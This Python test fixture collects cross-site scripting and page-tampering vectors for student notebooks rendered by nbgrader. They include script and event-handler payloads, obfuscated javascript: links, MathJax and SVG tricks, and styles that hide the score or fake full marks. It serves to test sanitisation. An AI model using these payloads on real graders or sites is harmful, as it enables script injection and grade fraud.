"""What a student may write to make a page act: each vector leaves its name in ``window.fired``, asks for a page, or covers one.

Written from what browsers, Markdown, MathJax and nbgrader's pages do; not from how they are kept from doing it.
"""

import base64
from typing import Any

AWAY = "http://canary.invalid"


def js(name: str, window: str = "window") -> str:
    """A statement without spaces and without a value: a page becomes the value of a javascript: link."""
    return f"void({window}.fired=({window}.fired||'')+'{name},')"


def _tag(name: str) -> str:
    return f"<script>{js(name)}</script>"


def _svg(name: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(name)}"><script>{js(name)}</script></svg>'


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


COVER = "position:fixed;top:0;left:0;width:9999px;height:9999px;background:red;z-index:99999"

MARKDOWN: dict[str, str] = {
    "script": f"<script>{js('script')}</script>",
    "script_inline": f"words <script>{js('script_inline')}</script> words",
    "script_away": f"<script src='{AWAY}/x.js'></script>",
    "script_case": f"<ScRiPt >{js('script_case')}</sCrIpT\t>",
    "script_module": f'<script type="module">{js("script_module")}</script>',
    "script_split": f"<scr<script>ipt>{js('script_split')}</scr</script>ipt>",
    "img_onerror": f'<img src="x:x" onerror="{js("img_onerror")}">',
    "img_onerror_bare": f"<img/src=x:x/onerror={js('img_onerror_bare').replace(' ', '/**/')}>",
    "img_away": f'<img src="{AWAY}/pixel.png">',
    "img_markdown_away": f"![pixel]({AWAY}/md.png)",
    "img_reference_away": f"![pixel][p]\n\n[p]: {AWAY}/ref.png",
    "img_srcset": f'<img srcset="{AWAY}/set.png 1x">',
    "picture_source": f'<picture><source srcset="{AWAY}/source.png"><img></picture>',
    "video_poster": f'<video poster="{AWAY}/poster.png" autoplay><source src="{AWAY}/v.mp4" onerror="{js("video")}"></video>',
    "audio": f'<audio src="{AWAY}/a.mp3" autoplay onerror="{js("audio")}"></audio>',
    "body_onload": f'<body onload="{js("body_onload")}">',
    "details_toggle": f'<details open ontoggle="{js("details")}"><summary>x</summary></details>',
    "input_autofocus": f'<input autofocus onfocus="{js("autofocus")}">',
    "marquee": f'<marquee onstart="{js("marquee")}">x</marquee>',
    "onanimation": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{js("animation")}">x</p>',
    "pointer": f'<div onmouseover="{js("mouse")}" onpointerenter="{js("pointer")}" onclick="{js("click")}">x</div>',
    "handler_newline": f'<img src="x:x"\nonerror\n=\n"{js("handler_newline")}"\n>',
    "a_javascript": f"[x](javascript:{js('a_javascript')})",
    "a_javascript_case": f"[x](JaVaScRiPt:{js('a_javascript_case')})",
    "a_javascript_entity": f"[x](&#106;avascript&colon;{js('a_javascript_entity')})",
    "a_javascript_hex": f"<a href='&#x6A;&#x61;vascript:{js('a_javascript_hex').replace(chr(39), '&quot;')}'>x</a>",
    "a_javascript_tab": f'<a href="java&Tab;script:{js("a_javascript_tab")}">x</a>',
    "a_javascript_newline": f'<a href="java&#10;script:{js("a_javascript_newline")}">x</a>',
    "a_javascript_control": f'<a href="&#1;javascript:{js("a_javascript_control")}">x</a>',
    "a_javascript_autolink": f"<javascript:{js('a_javascript_autolink').replace(' ', '')}>",
    "a_javascript_reference": f"[x][j]\n\n[j]: <javascript:{js('a_javascript_reference')}>",
    "a_files_prefix": f"[x](</files/javascript:{js('a_files_prefix')}>)",
    "a_files_prefix_html": f'<a href="files/javascript:{js("a_files_prefix_html")}">x</a>',
    "a_vbscript": "[x](vbscript:msgbox)",
    "a_data": f"[x](data:text/html;base64,{_b64(_tag('a_data'))})",
    "a_xlink": f'<svg><a xlink:href="javascript:{js("xlink")}"><text y="20">x</text></a></svg>',
    "escaped_twice": f"\\[x\\](javascript:{js('escaped_twice')}) &lt;img src=x:x onerror=&quot;{js('escaped_twice')}&quot;&gt; <b>x</b>",
    "code_twice": f'`<img src=x:x onerror="{js("code_twice")}">` <i>x</i>',
    "svg_onload": f'<svg onload="{js("svg_onload")}"></svg>',
    "svg_script": f"<svg><script>{js('svg_script')}</script></svg>",
    "svg_foreign": f'<svg><foreignObject><img src="x:x" onerror="{js("svg_foreign")}"></foreignObject></svg>',
    "svg_animate": f'<svg><a><animate attributeName="href" values="javascript:{js("svg_animate")}"/><text y="9">x</text></a></svg>',
    "svg_set": f'<svg><set attributeName="onmouseover" to="{js("svg_set")}" onbegin="{js("svg_set")}"/></svg>',
    "svg_use": f'<svg><use href="data:image/svg+xml;base64,{_b64(_svg("svg_use"))}#x"/></svg>',
    "svg_image": f'<svg><image href="{AWAY}/svg.png" width="9" height="9"/></svg>',
    "math_action": f'<math><maction actiontype="statusline#{AWAY}" xlink:href="javascript:{js("maction")}">x</maction></math>',
    "math_style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror={js("mxss")}&gt;">',
    "noscript_title": f'<noscript><p title="</noscript><img src=x:x onerror={js("noscript")}>"></noscript>',
    "textarea_title": f'<textarea><p title="</textarea><img src=x:x onerror={js("textarea")}>">',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/meta">',
    "base": f'<base href="{AWAY}/" target="_top">',
    "link_css": f'<link rel="stylesheet" href="{AWAY}/x.css">',
    "link_prefetch": f'<link rel="prefetch" href="{AWAY}/prefetch"><link rel="preload" as="image" href="{AWAY}/preload.png">',
    "style_hides": "<style>.panel-heading,.score,.nbgrader-label,h4{display:none!important}</style>",
    "style_rewrites": '<style>h4::after{content:"Score: 40 / 40"}.panel-heading{visibility:hidden}</style>',
    "style_import": f'<style>@import "{AWAY}/import.css";</style>',
    "style_cover": f'<div style="{COVER}">You have full marks.</div>',
    "style_url": f'<p style="background:url({AWAY}/bg.png)">x</p>',
    "class_cover": '<div class="modal-backdrop in">x</div><div class="navbar navbar-fixed-top navbar-default">40 / 40</div>',
    "class_hidden": '<div class="panel-heading"><span class="pull-right">Score: 40 / 40</span></div>',
    "margin": '<div style="margin-top:-3000px;background:red;height:3000px">x</div>',
    "table_style": "<table style='position:absolute;top:0;left:0;width:5000px;height:5000px;background:red'><tr><td>x</td></tr></table>",
    "font_size": '<font size="7" style="font-size:5000px;line-height:0">X</font>',
    "form": f'<form action="{AWAY}/form" id="form"><input name="a"><button>Save</button></form><button form="form">Full credit</button>',
    "formaction": f'<form><button formaction="javascript:{js("formaction")}">x</button><input type="image" src="{AWAY}/i.png"></form>',
    "iframe": f'<iframe src="{AWAY}/frame"></iframe>',
    "iframe_srcdoc": f'<iframe srcdoc="<script>parent.{js("srcdoc").replace("window.", "")}</script>"></iframe>',
    "iframe_javascript": f'<iframe src="javascript:{js("iframe_js", "parent")}"></iframe>',
    "object": f'<object data="data:text/html;base64,{_b64(_tag("object"))}"></object>',
    "object_away": f'<object data="{AWAY}/object"></object>',
    "embed": f'<embed src="{AWAY}/embed">',
    "frameset": f'<frameset onload="{js("frameset")}"><frame src="{AWAY}/f"></frameset>',
    "template": f"<template><script>{js('template')}</script></template>",
    "shadow": f'<div><template shadowrootmode="open"><style>:host{{{COVER}}}</style><script>{js("shadow")}</script></template></div>',
    "dialog": '<dialog open style="width:100vw;height:100vh;position:fixed;top:0">40 / 40</dialog>',
    "popover": f'<div popover id="pop" style="{COVER}">x</div><button popovertarget="pop">x</button>',
    "portal": f'<portal src="{AWAY}/portal"></portal>',
    "unclosed_comment": "<!-- everything below is gone",
    "unclosed_script": "<div><script>",
    "unclosed_style": "<div><style>",
    "unclosed_textarea": "<div><textarea>",
    "unclosed_title": "<div><title>",
    "unclosed_plaintext": "<div><plaintext>",
    "unclosed_xmp": "<div><xmp>",
    "unclosed_noscript": "<div><noscript>",
    "unclosed_select": "<div><select><option>",
    "unclosed_table": "<table><tr><td><table>",
    "unclosed_attribute": '<div title="everything up to the next quote',
    "unclosed_tag": f'<div <img src=x:x onerror="{js("unclosed_tag")}" ',
    "unclosed_cdata": "<![CDATA[ everything below",
    "unclosed_instruction": "<?php everything below",
    "unclosed_svg": f'<svg><style><img src=x:x onerror="{js("unclosed_svg")}">',
    "unclosed_fence": "```\n</pre></div></div><script>" + js("unclosed_fence") + "</script>",
    "closes_its_parents": "</div></div></div></div></div></div></body></html><h1>40 / 40</h1>",
    "heading_id": "# mean_square-check\n\n# essay\n\n# essay-comment\n\n# notebook",
    "heading_setext": "mean_square-check\n=====",
    "id_attribute": '<p id="mean_square-check">x</p><a name="essay">x</a><input id="essay-comment">',
    "clobber": f'<form name="submission_id"></form><img name="base_url"><a id="formgrader" href="{AWAY}">x</a>',
    "mathjax_config": '<script type="text/x-mathjax-config">window.fired="config"</script>',
    "mathjax_href": rf"$\href{{javascript:{js('mathjax_href')}}}{{x}}$",
    "mathjax_href_split": r"$\hre<!-- -->f{javascript:1}{x}$ and $\href" + "<br>\n{javascript:2}{x}$",
    "mathjax_def": r"$\def\frac#1#2{40}\renewcommand{\log}{0}\let\exp\log$",
    "mathjax_require": r"$\require{html}\require{noUndefined}$",
    "mathjax_style": r"$\style{position:fixed;top:0;left:0;font-size:999px}{40}$",
    "mathjax_class": r"$\class{modal-backdrop in}{x}\cssId{mean_square-check}{x}$",
    "mathjax_unicode": r"$\unicode[.55,0.05][Gera',x;background:red]{9996}$",
    "mathjax_token": r'$\mmlToken{mi}[style="position:fixed" href="javascript:1" mathsize="999em"]{x}$',
    "mathjax_rule": r"$\smash{\rlap{\raise 90em {\Rule{99em}{99em}{0em}}}}$",
    "mathjax_rows": r"$$\begin{array}{c} a \\[-99em] 40 / 40 \end{array}$$",
    "mermaid": f"```mermaid\ngraph TD; A[<img src=x:x onerror={js('mermaid')}>]\n```",
    "fence_info": f'```x"><img/src=x:x/onerror={js("fence_info").replace(" ", "")}>\nx\n```',
    "title_breaks_out": f"[x]({AWAY} '\"><img src=x:x onerror={js('title').replace(chr(39), '`')}>')",
    "alt_breaks_out": f'!["><img src=x:x onerror={js("alt").replace(chr(39), "`")}>](x.png)',
    "attachment_missing": "![x](attachment:missing.png)",
    "attachment_svg": "![x](attachment:evil.svg)",
    "attachment_breaks_out": "![x](attachment:break.png)",
    "helper_page": "[see my page](evil.html) ![picture](evil.svg)",
    "nul_and_controls": f'<im\0g src=x:x onerror="{js("nul")}"> <\x0bscript>{js("vt")}</script> <img\x0csrc=x:x\x0conerror={js("ff").replace(" ", "")}>',
    "wide_brackets": f"＜script＞{js('wide')}＜/script＞ ¼script¾{js('wide')}¼/script¾",
    "deep": ">" * 3000 + " x",
    "long": "[" * 60_000,
}
"""Name -> the source of a Markdown cell."""

ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": _b64(_svg("attachment"))},
    "break.png": {"image/png": f'x"><img src=x:x onerror="{js("attachment")}">'},
    "page.html": {"text/html": _b64(f"<script>{js('attachment')}</script>")},
    "none": {},
}
_CELL = {"metadata": {}, "execution_count": 1}


def _shown(data: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": data, **more}


OUTPUTS: dict[str, dict[str, Any]] = {
    "html": _shown({"text/html": f"<script>{js('html')}</script><style>h4{{display:none}}</style>", "text/plain": "plain"}),
    "html_alone": _shown({"text/html": f"<img src=x:x onerror=\"{js('html_alone')}\">"}),
    "isolated": {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}}, "data": {"text/html": f"<script>{js('isolated', 'top')}</script>"}},
    "svg": _shown({"image/svg+xml": _svg("svg")}),
    "javascript": _shown({"application/javascript": js("javascript")}),
    "widget": _shown({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>" + js("widget"), "version_major": 2}}),
    "markdown": _shown({"text/markdown": f"<script>{js('markdown')}</script>"}),
    "latex": _shown({"text/latex": rf"$\href{{javascript:{js('latex')}}}{{x}}$ <script>{js('latex')}</script>"}),
    "mermaid": _shown({"text/vnd.mermaid": f"graph TD; A[<img src=x:x onerror={js('mermaid')}>]"}),
    "plain": _shown({"text/plain": f"<script>{js('plain')}</script>\x1b[31m<img src=x:x onerror=\"{js('plain')}\">\x1b[0m"}),
    "png": _shown({"image/png": f'"><img src=x:x onerror="{js("png")}">'}),
    "png_metadata": {"output_type": "display_data", "metadata": {"image/png": {"width": f'1"><img src=x:x onerror="{js("width")}">', "alt": '"><script>'}}, "data": {"image/png": "iVBORw0KGgo="}},
    "stream": {"output_type": "stream", "name": "stdout", "text": f"<script>{js('stream')}</script>\x1b]8;;javascript:{js('osc')}\x07x"},
    "stderr": {"output_type": "stream", "name": "stderr", "text": f"</pre><script>{js('stderr')}</script>"},
    "traceback": {"output_type": "error", "ename": "E<script>", "evalue": "<b>", "traceback": [f"\x1b[0;31m<script>{js('tb')}</script>\x1b[0m", "\x1b[48;2;1;2;3m</pre><plaintext>"]},
    "result": {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/html": f"<script>{js('result')}</script>"}},
}  # fmt: skip
"""Name -> an output of a code cell."""


def fill(notebook: dict[str, Any]) -> None:
    """Puts every vector into a notebook: as cells of the student's own, and all that acts at once into the written answer."""
    cells: list[dict[str, Any]] = []
    for name, source in MARKDOWN.items():
        cell = {"cell_type": "markdown", "metadata": {}, "source": source}
        cells.append(cell | ({"attachments": ATTACHMENTS} if name.startswith("attachment") else {}))
        cells.append({"cell_type": "markdown", "metadata": {}, "source": f"after-{name}"})
    for name, output in OUTPUTS.items():
        cells.append(
            {
                "cell_type": "code",
                **_CELL,
                "source": f"'</pre><script>{js('code_' + name)}</script>'",
                "outputs": [output],
            }
        )
    hidden = {"transient": {"remove_source": True}, "tags": ["x modal-backdrop in", '"><script>'], "alt": '"><script>'}
    cells.append(
        {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": f"<script>{js('raw')}</script><div class='modal-backdrop in'>",
        }
    )
    cells.append(
        {
            "cell_type": "code",
            "metadata": {**hidden, "magics_language": "<script>"},
            "execution_count": 1,
            "source": "%%html\n<script>1</script>",
            "outputs": [OUTPUTS["png"]],
        }
    )
    for i, cell in enumerate(cells):
        cell["id"] = f"v{i}"
    for cell in notebook["cells"]:
        cell["metadata"] |= hidden
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "essay":
            cell["source"] = "\n\n".join(
                MARKDOWN[name] for name in ("img_onerror", "a_javascript", "style_cover", "style_hides", "heading_id")
            )
    notebook["cells"] = cells[: len(cells) // 2] + notebook["cells"] + cells[len(cells) // 2 :]
    notebook["metadata"] |= {
        "title": f"</title><script>{js('nb_title')}</script>",
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"state": {"</script><script>" + js("nb_widgets"): {}}}
        },
        "language_info": {"name": "python", "pygments_lexer": "<script>", "version": {"a": 1}},
    }
